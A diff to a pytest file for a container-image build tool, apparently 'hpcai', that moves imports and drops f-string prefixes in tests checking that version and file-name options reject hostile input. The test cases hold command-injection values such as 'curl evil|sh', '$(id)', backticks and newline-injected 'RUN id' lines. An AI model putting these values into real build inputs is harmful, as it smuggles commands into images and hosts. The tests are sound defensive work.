@@ -21,8 +21,8 @@ from dockerfile_parse import DockerfileParser
 
 from hpcai import payloads
 from hpcai.errors import UsageError
-from hpcai.render import Writer, render
-from hpcai.spec import make_spec
+from hpcai.image.render import Writer, render
+from hpcai.image.spec import make_spec
 
 pytestmark = pytest.mark.hostile
 
@@ -83,7 +83,7 @@ OPTION_CASES = [
     (["pytorch-rocm", "--rocm-version", "6.4 x"], {}, (), "--rocm-version (ROCM_VERSION) '6.4 x': expected a tag"),
     (["pytorch-rocm"], {"ROCM_VERSION": "-6.4"}, (), "--rocm-version (ROCM_VERSION) '-6.4': expected a tag"),
     # component versions: --set NAME=VERSION and <NAME>_VERSION (ENV, %post export, labels, URLs)
-    (["pytorch-ngc", "--set", "libfabric=2.5.1\nRUN id", UNVERIFIED], {}, (), f"--set libfabric '2.5.1\\nRUN id': control characters"),
+    (["pytorch-ngc", "--set", "libfabric=2.5.1\nRUN id", UNVERIFIED], {}, (), "--set libfabric '2.5.1\\nRUN id': control characters"),
     (["pytorch-ngc", "--set", "libfabric=2.5.1;curl evil|sh", UNVERIFIED], {}, (), "--set libfabric '2.5.1;curl evil|sh': expected a version"),
     (["pytorch-ngc", "--set", "openmpi=$(id)", UNVERIFIED], {}, (), "--set openmpi '$(id)': expected a version"),
     (["pytorch-ngc", "--set", "pmix=`id`", UNVERIFIED], {}, (), "--set pmix '`id`': expected a version"),
@@ -111,7 +111,7 @@ OPTION_CASES = [
     (["pytorch-cpu", "-f", "apptainer"], {"APT_SOURCES": "{inputs}/$(id).list"}, ("$(id).list",),
      "--apt-sources (APT_SOURCES) file name '$(id).list'"),
     (["pytorch-cpu", "--apt-sources", "{inputs}/x\nRUN id.list"], {}, ("x\nRUN id.list",),
-     f"file name 'x\\nRUN id.list': control characters"),
+     "file name 'x\\nRUN id.list': control characters"),
     (["pytorch-cpu", "--apt-sources", "{inputs}/-x.list"], {}, ("-x.list",), "file name '-x.list': expected"),
     (["pytorch-cpu", "--apt-sources", "{inputs}/'q'.list"], {}, ("'q'.list",), "expected a file name"),
     # --payloads / PAYLOADS: folder names joined to the payloads folder, written into COPY and RUN
